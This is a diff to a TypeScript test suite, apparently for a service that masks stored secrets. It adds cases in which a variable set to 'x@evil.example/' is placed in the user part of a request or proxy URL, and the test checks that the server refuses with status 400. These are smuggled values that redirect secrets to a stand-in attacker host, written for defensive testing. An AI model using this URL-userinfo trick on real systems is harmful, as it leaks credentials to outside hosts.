@@ -143,6 +143,9 @@ const gateway = { api_keys: [{ value: 'canary' }], base_url: 'https://ai.example
 const login = { issuer_url: 'https://id.example', token_url: 'https://id.example/t', client_secret: 'canary' }
 const request = (url: string) => ({ url, headers: { authorization: 'canary' } })
 const call = request('https://api.example')
+const byUser = action('http-request', request('https://api:${vars.p}@api.example/x'))
+const maskedUser = action('http-request', request('https://canary@api.example/canary'))
+const viaProxy = (user: string) => action('http-request', { ...call, proxy: `https://${user}@proxy.example` })
 const byName = action('http-request', request('${vars.u}'))
 const setVars = (...vars: object[]) => action('set-vars', { vars })
 const setKey = setVars({ k: 'canary' })
@@ -177,6 +180,17 @@ test.each<[string, object[], object[]]>([
     [setVars({ u: 'canary' }), byName],
     [setVars({ u: evil }), byName],
   ],
+  ['a variable in the user information of a URL', [byUser], [setVars({ p: 'x@evil.example/' }), maskedUser]],
+  [
+    'a variable in the user information of another URL',
+    [viaProxy('a:${vars.p}')],
+    [setVars({ p: 'x@evil.example/' }), viaProxy('canary')],
+  ],
+  [
+    'a variable in a configuration that is masked as a whole',
+    [{ type: 'http-request', config: 'url: https://${vars.p}api.example' }],
+    [setVars({ p: 'x@evil.example/' }), { type: 'http-request', config: 'canary' }],
+  ],
   ['a response that contains a variable', [setKey], [setKey, reply('${vars.k}')]],
   [
     'a response that contains a request header',
@@ -191,7 +205,8 @@ test.each<[string, object[], object[]]>([
 ])("a kept secret can't be sent elsewhere by %s", async (_, before, after) => {
   value = JSON.stringify(ruleOf(...before))
   const marks = (await seen()).match(/adit:kept:\w+/g) ?? []
-  const kept = withMarks(ruleOf(...after), marks.slice(-1))
+  const count = JSON.stringify(after).split('canary').length - 1
+  const kept = withMarks(ruleOf(...after), marks.slice(-count))
   expect(kept).toContain('adit:kept:')
   expect(await put(kept)).toMatchObject({
     status: 400,
